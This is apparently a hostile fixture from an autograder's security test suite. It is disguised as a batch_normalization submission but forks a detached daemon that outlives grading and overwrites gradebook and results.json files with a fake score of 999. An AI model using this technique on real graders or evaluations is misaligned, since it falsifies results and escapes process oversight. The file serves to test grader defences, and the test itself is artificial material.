"""Hostile: escape by double fork.  A setsid daemon, re-parented to init, outlives the
grade and then rewrites every report it can find (--output, --out, Gradescope's results.json).
It gives up after a bounded wait, so a failed test leaves nothing running for long.
"""

import json
import os
import signal
import sys

import numpy as np


from _recon import *  # noqa: F403  (the test harness inlines tests/security/hostile/_recon.py here)


import time


def _daemon(targets):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in range(0, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    for _ in range(600):  # at most 30 s
        time.sleep(0.05)
        for path in targets:
            if os.path.exists(path):
                write(path, '{"score": 999.0, "output": "ESCAPED", "tests": []}')
    os._exit(0)


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    targets = list(option("--output", "-o"))
    for out in option("--out"):
        targets += [os.path.join(out, "gradebook.csv"), os.path.join(out, "class-summary.json")]
    for katas in option("--katas-dir"):
        root = os.path.dirname(os.path.dirname(os.path.abspath(katas)))
        targets.append(os.path.join(root, "results", "results.json"))
    _daemon(targets)
    return np.zeros_like(X)
